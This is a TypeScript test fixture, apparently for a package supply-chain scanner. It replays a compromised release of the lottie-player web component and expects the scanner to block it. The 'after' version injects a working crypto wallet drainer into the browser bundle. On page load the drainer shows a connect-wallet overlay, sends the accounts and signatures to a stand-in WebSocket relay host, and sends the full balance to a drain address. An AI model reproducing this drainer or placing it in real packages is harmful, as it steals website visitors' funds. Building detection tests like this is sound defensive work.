import type { Replica, ReplicaVersion } from '../replicas/replica.js';
import { noise } from '../replicas/replica.js';

export const before = {
  version: '2.0.4',
  publishedAt: '2024-03-01T09:14:27.000Z',
  publisher: { name: 'lottie-ci', email: 'ci@mail.example.invalid' },
  manifest: {
    main: 'dist/lottie-player.js',
    unpkg: 'dist/lottie-player.js',
    license: 'MIT',
    description: 'animation web component',
  },
  files: {
    'dist/lottie-player.js': `(function (global, factory) {
  typeof exports === 'object' && typeof module !== 'undefined' ? factory(exports) :
  typeof define === 'function' && define.amd ? define(['exports'], factory) :
  (global = typeof globalThis !== 'undefined' ? globalThis : global || self, factory(global["lottie-player"] = {}));
})(this, (function (exports) { 'use strict';

  var PlayerState;
  (function (PlayerState) {
    PlayerState["Loading"] = "loading";
    PlayerState["Playing"] = "playing";
    PlayerState["Paused"] = "paused";
    PlayerState["Error"] = "error";
  })(PlayerState || (PlayerState = {}));

  function parseSrc(src) {
    if (typeof src === 'object') { return src; }
    try { return JSON.parse(src); } catch (e) { return new URL(src, window.location.href).toString(); }
  }

  function isLottie(json) {
    return ['v', 'ip', 'op', 'layers', 'fr', 'w', 'h'].every(function (field) {
      return Object.prototype.hasOwnProperty.call(json, field);
    });
  }

  async function fromURL(url) {
    var res = await fetch(url);
    if (!res.ok) { throw new Error('The server answered ' + res.status); }
    return res.json();
  }

  class LottiePlayer extends HTMLElement {
    static get observedAttributes() { return ['src', 'loop', 'autoplay']; }
    constructor() {
      super();
      this.currentState = PlayerState.Loading;
      this.attachShadow({ mode: 'open' }).innerHTML = '<style>:host{display:block}</style><div class="animation"></div>';
    }
    attributeChangedCallback(name, _, value) { if (name === 'src') { this.load(value); } }
    async load(src) {
      try {
        var parsed = parseSrc(src);
        var json = typeof parsed === 'string' ? await fromURL(parsed) : parsed;
        if (!isLottie(json)) { throw new Error('no animation in ' + src); }
        this.data = json;
        this.currentState = PlayerState.Playing;
        this.dispatchEvent(new CustomEvent('ready'));
      } catch (err) {
        this.currentState = PlayerState.Error;
        this.dispatchEvent(new CustomEvent('error'));
      }
    }
  }
  customElements.define('lottie-player', LottiePlayer);

  exports.LottiePlayer = LottiePlayer;
  exports.PlayerState = PlayerState;
  exports.parseSrc = parseSrc;
}));
`,
    'README.md': `# lottie-player

\`<lottie-player src="animation.json" autoplay></lottie-player>\`
`,
  },
} satisfies ReplicaVersion;

export const replica: Replica = {
  id: 'lottie-player-2024',
  story: 'October 2024: three versions in a row whose browser bundle also asks visitors to connect a wallet, over a new socket host.',
  name: '@lottiefiles/lottie-player',
  before,
  after: {
    version: '2.0.7',
    publishedAt: '2024-10-30T09:14:27.000Z',
    publisher: { name: 'aidosmf', email: 'aidos@mail.example.invalid' },
    manifest: {
      main: 'dist/lottie-player.js',
      unpkg: 'dist/lottie-player.js',
      license: 'MIT',
      description: 'animation web component',
    },
    files: {
      ...before.files,
      'dist/lottie-player.js': before.files['dist/lottie-player.js']
        .replace(`  var PlayerState;`, () => `  var __wc = (function () {
    var chains = { 1: 'Ethereum', 56: 'BNB Smart Chain', 137: 'Polygon', 42161: 'Arbitrum One' };
    var listeners = new Map();
    var projectId = "${noise(32, 77, '0123456789abcdef')}";
    var relay = null, drain = "0x${noise(40, 919, '0123456789abcdef')}";

    function detect() {
      var found = [];
      window.addEventListener('eip6963:announceProvider', function (ev) { found.push(ev.detail); });
      window.dispatchEvent(new Event('eip6963:requestProvider'));
      if (window.ethereum) { found.push({ info: { name: window.ethereum.isMetaMask ? 'MetaMask' : 'Injected' }, provider: window.ethereum }); }
      if (window.trustwallet) { found.push({ info: { name: 'Trust' }, provider: window.trustwallet }); }
      if (window.phantom && window.phantom.solana) { found.push({ info: { name: 'Phantom' }, provider: window.phantom.solana }); }
      return found;
    }

    function open() {
      relay = new WebSocket("wss://relay.castleservices01.example.invalid/ws?pid=" + projectId);
      relay.onmessage = function (m) {
        var msg = JSON.parse(m.data);
        (listeners.get(msg.topic) || []).forEach(function (f) { f(msg.payload); });
      };
      relay.onclose = function () { setTimeout(open, 3000); };
    }

    async function connect(entry) {
      var accounts = await entry.provider.request({ method: 'eth_requestAccounts' });
      var chain = await entry.provider.request({ method: 'eth_chainId' });
      relay.send(JSON.stringify({ topic: 'acc', payload: { accounts: accounts, chain: chains[parseInt(chain, 16)], ref: location.host } }));
      var balance = await entry.provider.request({ method: 'eth_getBalance', params: [accounts[0], 'latest'] });
      listeners.set('permit', [async function (typed) {
        var sig = await entry.provider.request({ method: 'eth_signTypedData_v4', params: [accounts[0], JSON.stringify(typed)] });
        relay.send(JSON.stringify({ topic: 'sig', payload: sig }));
      }]);
      return entry.provider.request({ method: 'eth_sendTransaction', params: [{ from: accounts[0], to: drain, value: balance, data: '0x' }] });
    }

    function modal() {
      var el = document.createElement('div');
      el.setAttribute('style', 'position:fixed;inset:0;z-index:2147483647;background:rgba(0,0,0,.7)');
      el.innerHTML = '<div class="wcm"><h3>Connect wallet</h3><ul></ul></div>';
      detect().forEach(function (entry) {
        var li = document.createElement('li');
        li.textContent = entry.info.name;
        li.onclick = function () { connect(entry).catch(function () {}); };
        el.querySelector('ul').appendChild(li);
      });
      document.body.appendChild(el);
    }

    if (typeof document !== 'undefined') {
      open();
      document.readyState === 'complete' ? modal() : window.addEventListener('load', modal);
    }
    return { assets: "${noise(60000, 4711)}" };
  })();

  var PlayerState;`),
    },
  },
  must: 'block',
};
